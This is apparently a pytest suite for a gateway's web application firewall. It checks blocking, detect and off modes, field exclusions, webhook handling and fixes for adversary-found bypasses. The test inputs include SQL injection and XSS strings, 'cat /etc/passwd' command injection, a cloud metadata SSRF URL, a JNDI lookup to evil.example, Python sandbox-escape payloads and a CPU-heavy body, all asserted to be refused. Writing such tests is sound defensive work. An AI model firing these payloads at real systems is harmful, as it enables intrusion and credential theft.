"""The WAF in the gateway: a real node, attacks refused before any handler runs."""

from __future__ import annotations

import json
import os
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from ramparts.events.webhooks import sign_webhook
from tests.conftest import HOOK_SECRET, RunningNode, make_app

MANIFEST = """
app: wafgw
waf:
  exclusions:
    - {route: "POST /notes", field: "$.html", rules: [xss]}
functions:
  pub:
    handler: h.py:handler
    triggers:
      - http: {method: POST, path: /pub, auth: none}
      - http: {method: GET, path: /pub, auth: none}
  priv:
    handler: h.py:handler
    triggers:
      - http: {method: POST, path: /priv, auth: api_key}
  watch:
    handler: h.py:handler
    triggers:
      - http: {method: POST, path: /watch, auth: none, waf: detect}
  open:
    handler: h.py:handler
    triggers:
      - http: {method: POST, path: /open, auth: none, waf: "off"}
  notes:
    handler: h.py:handler
    triggers:
      - http: {method: POST, path: /notes, auth: none}
  hook:
    handler: h.py:handler
    triggers:
      - webhook: {path: /wafhook, scheme: standard, secret: waf-hook}
"""

HANDLER = """
def handler(event, context):
    return {"ok": True}
"""

ATTACK = {"comment": "1' OR '1'='1' --"}


@pytest.fixture(scope="module")
def app(node: RunningNode, tmp_path_factory: pytest.TempPathFactory) -> RunningNode:
    done = node.cli("secrets", "set", "waf-hook", "--app", "wafgw", "--stdin", stdin=HOOK_SECRET)
    assert done.returncode == 0, done.stderr
    node.deploy_ok(make_app(tmp_path_factory.mktemp("wafgw"), MANIFEST, {"h.py": HANDLER}))
    return node


def _waf_events(node: RunningNode, request_id: str, timeout: float = 15) -> list[dict]:
    """The request's WAF audit records, detail fields lifted to the top for reading.

    A refusal repeated within a second is audited in its group's summary record
    (``request_ids``), written up to a second later: wait for it (``timeout``:
    how long a record that never comes is waited for; a few seconds is past any summary).
    """
    deadline = time.monotonic() + timeout
    while True:
        found = [
            {**e, **e.get("detail", {})}
            for e in node.audit()
            if e["kind"] in ("gateway.waf", "waf.detect")
            and (e.get("request_id") == request_id
                 or request_id in e.get("detail", {}).get("request_ids", ()))
        ]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.2)


def test_attack_on_public_route_is_refused_and_never_reaches_the_handler(app: RunningNode) -> None:
    r = app.gateway.post("/pub", json=ATTACK)
    assert r.status_code == 403, r.text
    body = r.json()
    assert body["code"] == "waf_blocked"
    assert body["request_id"] == r.headers["x-request-id"]
    assert "sqli" not in body["message"]  # the message names no rule
    [event] = _waf_events(app, body["request_id"])
    assert event["kind"] == "gateway.waf" and event["decision"] == "deny"
    assert event["resource"] == "route:POST /pub"
    assert "sqli-libinjection" in event["rules"] and event["categories"] == ["sqli"]
    assert event["score"] >= 5 and event["locations"] == ["$.comment"]
    assert all(len(m["excerpt"]) <= 64 for m in event["matches"])
    # the handler never ran: the only invocation is the clean request's
    assert app.gateway.post("/pub", json={"comment": "Looks good to me"}).status_code == 200
    rows = app.wait_invocations("pub", 1)
    assert len(rows) == 1


def test_attack_in_query_and_path_of_a_get(app: RunningNode) -> None:
    r = app.gateway.get("/pub", params={"next": "http://169.254.169.254/latest/meta-data/"})
    assert r.status_code == 403 and r.json()["code"] == "waf_blocked"
    r = app.gateway.get("/pub", params={"q": "%253Cscript%253Ealert(1)%253C/script%253E"})
    assert r.status_code == 403
    r = app.gateway.get("/pub", headers={"user-agent": "sqlmap/1.7.2#stable"})
    assert r.status_code == 403


def test_attack_on_private_route_is_refused(app: RunningNode) -> None:
    out = app.cli("keys", "create", "--name", "wafgw")
    assert out.returncode == 0, out.stderr
    key = out.stdout.strip()
    ok = app.gateway.post("/priv", json={"comment": "fine"}, headers={"x-api-key": key})
    assert ok.status_code == 200, ok.text
    r = app.gateway.post(
        "/priv", json={"cmd": "x; cat /etc/passwd"}, headers={"x-api-key": key}
    )
    assert r.status_code == 403 and r.json()["code"] == "waf_blocked"
    [event] = _waf_events(app, r.json()["request_id"])
    assert event["principal"].startswith("key:")  # who sent it, not only from where
    assert len(app.wait_invocations("priv", 1)) == 1


def test_detect_mode_passes_and_audits(app: RunningNode) -> None:
    r = app.gateway.post("/watch", json=ATTACK)
    assert r.status_code == 200, r.text
    [event] = _waf_events(app, r.headers["x-request-id"])
    assert event["kind"] == "waf.detect" and event["decision"] == "allow"
    assert event["mode"] == "detect" and "sqli-libinjection" in event["rules"]


def test_off_on_a_trigger_inspects_nothing(app: RunningNode) -> None:
    r = app.gateway.post("/open", json=ATTACK)
    assert r.status_code == 200, r.text
    assert _waf_events(app, r.headers["x-request-id"], timeout=3) == []


def test_exclusion_lets_one_field_carry_html(app: RunningNode) -> None:
    html = {"html": "<p onclick=\"x()\">hi</p><script>track()</script>"}
    assert app.gateway.post("/notes", json=html).status_code == 200
    # the same value in another field is still refused, and SQLi in the field too
    assert app.gateway.post("/notes", json={"text": html["html"]}).status_code == 403
    assert app.gateway.post("/notes", json={"html": ATTACK["comment"]}).status_code == 403


def test_webhook_is_inspected_after_its_signature(app: RunningNode) -> None:
    attack = b'{"comment": "<script>alert(1)</script>"}'
    unsigned = app.gateway.post("/wafhook", content=attack,
                                headers={"content-type": "application/json"})
    assert unsigned.status_code == 401  # refused by the signature check, not inspected
    assert _waf_events(app, unsigned.headers["x-request-id"], timeout=3) == []
    signed = {**sign_webhook("standard", HOOK_SECRET, attack, msg_id="waf_1"),
              "content-type": "application/json"}
    r = app.gateway.post("/wafhook", content=attack, headers=signed)
    assert r.status_code == 403 and r.json()["code"] == "waf_blocked"
    clean = b'{"comment": "hello"}'
    ok = {**sign_webhook("standard", HOOK_SECRET, clean, msg_id="waf_2"),
          "content-type": "application/json"}
    assert app.gateway.post("/wafhook", content=clean, headers=ok).status_code == 202


def test_bad_rule_file_is_refused_at_deploy(node: RunningNode, tmp_path: Path) -> None:
    manifest = """
    app: wafbad
    waf: {rules: [waf/mine.yaml]}
    functions:
      f:
        handler: h.py:handler
        triggers: [{http: {method: GET, path: /wafbad, auth: none}}]
    """
    rules = "rules:\n  - id: mine\n    category: sqli\n    description: x\n    severity: high\n"
    app_dir = make_app(tmp_path / "bad", manifest, {"h.py": HANDLER, "waf/mine.yaml": rules})
    r = node.deploy(app_dir)
    assert r.status_code == 422, r.text
    body = r.json()
    assert body["code"] == "invalid_waf_rules"
    assert "waf/mine.yaml" in body["message"] and "rules[0]" in body["message"]
    assert "Traceback" not in r.text


def test_app_rule_file_and_disable(node: RunningNode, tmp_path: Path) -> None:
    manifest = """
    app: wafown
    waf: {rules: [waf/mine.yaml], disable: [sqli]}
    functions:
      f:
        handler: h.py:handler
        triggers: [{http: {method: POST, path: /wafown, auth: none}}]
    """
    rules = """
    rules:
      - id: no-internal-sku
        category: business
        description: internal SKUs never come from outside
        severity: critical
        targets: [body]
        patterns: ['\\bsku-int-\\d+']
    """
    app_dir = make_app(tmp_path / "own", manifest, {"h.py": HANDLER, "waf/mine.yaml": rules})
    node.deploy_ok(app_dir)
    assert node.gateway.post("/wafown", json={"sku": "SKU-INT-42"}).status_code == 403
    assert node.gateway.post("/wafown", json=ATTACK).status_code == 200  # sqli disabled
    assert node.gateway.post("/wafown", json={"c": "<script>x</script>"}).status_code == 403


# -- the WAF adversary's findings (adv-waf), through a real node ----------------------------


def test_crafted_cpu_heavy_body_is_refused_and_others_still_flow(app: RunningNode) -> None:
    """F1: ~500 KB of punctuation exceeds the cost budget (fail closed), off the event loop."""
    salt = os.urandom(3).hex()
    body = json.dumps([f"{salt}{i:04d}" + "; " * 122 for i in range(2000)])

    def crafted() -> httpx.Response:
        with httpx.Client(base_url=str(app.gateway.base_url), timeout=120) as client:
            return client.post("/pub", content=body, headers={"content-type": "application/json"})

    with ThreadPoolExecutor(2) as pool:
        heavy = [pool.submit(crafted) for _ in range(2)]
        small = app.gateway.get("/pub", params={"q": "hello"})
        results = [f.result() for f in heavy]
    assert small.status_code == 200, small.text
    for r in results:
        assert r.status_code == 403, r.text
        [event] = _waf_events(app, r.json()["request_id"])
        assert event["rules"] == ["protocol-inspection-limit"]
    big = {"items": [{"id": i, "text": f"Order {i}: it's fine (really) -- see #4. " * 8}
                     for i in range(300)]}
    assert app.gateway.post("/pub", json=big).status_code == 200  # benign ~100 KB JSON


def test_json_sent_as_text_or_untyped_is_inspected_as_json(app: RunningNode) -> None:
    """F2: the handler json.loads it anyway; its escapes (\\t) must not hide SQLi."""
    body = json.dumps({"user": "x'\tor\t1=1--", "pw": "x"})
    for headers in ({"content-type": "text/plain"}, {}):
        r = app.gateway.post("/pub", content=body, headers=headers)
        assert r.status_code == 403 and r.json()["code"] == "waf_blocked", (headers, r.text)


def test_escaped_emoji_in_untyped_json_is_not_a_check_failure(app: RunningNode) -> None:
    """F4: requests.post(data=json.dumps(...)) escapes emoji as surrogate pairs."""
    body = json.dumps({"comment": "Looks great 👍", "code": "\\ud83d"})
    for route in ("/pub", "/watch"):
        r = app.gateway.post(route, content=body)
        assert r.status_code == 200, (route, r.text)
    r = app.gateway.post("/pub", content=b"a=%uD83D%uDE00&b=x%uDFFF%uD800",
                         headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 200, r.text


def test_a_stray_byte_does_not_turn_inspection_off(app: RunningNode) -> None:
    """F5: a text body with one invalid UTF-8 byte is still inspected (decoded leniently)."""
    r = app.gateway.post("/pub", content=b"' or 1=1--\xff", headers={"content-type": "text/plain"})
    assert r.status_code == 403 and r.json()["code"] == "waf_blocked", r.text


def test_client_set_headers_reach_inspection(app: RunningNode) -> None:
    """F9: X-Real-IP, Accept, Idempotency-Key... reach handlers, so they are inspected."""
    for name in ("x-real-ip", "accept", "idempotency-key", "content-disposition"):
        r = app.gateway.get("/pub", headers={name: "${jndi:ldap://evil.example/a}"})
        assert r.status_code == 403, (name, r.text)


def test_round3_families_on_a_real_node(app: RunningNode) -> None:
    """Python injection deep in JSON, an oddly spelt SSRF target in the Referer and a
    JSON-operator SQL injection are refused; a support ticket quoting shell passes."""
    deep = {"data": {"settings": [{"template": "{0.__class__.__init__.__globals__}"}]}}
    assert app.gateway.post("/pub", json=deep).status_code == 403
    cases = [
        {"json": {"q": "getattr(__import__('os'),'system')('id')"}},
        {"json": {"filter": "' OR data->>'role'='admin'--"}},
        {"json": {"ok": 1}, "headers": {"referer": "http://169.254.169.254/metadata/v1.json"}},
    ]
    for case in cases:
        r = app.gateway.post("/pub", **case)
        assert r.status_code == 403 and r.json()["code"] == "waf_blocked", case
    ticket = {"comment": "Why does cat /etc/hosts hang for 30s? Output of "
                         "`ping -c 4 api.example.com`:\n```\nok\n```"}
    assert app.gateway.post("/pub", json=ticket).status_code == 200
    dev = {"referer": "http://localhost:3000/"}
    assert app.gateway.post("/pub", json={"q": "x"}, headers=dev).status_code == 200
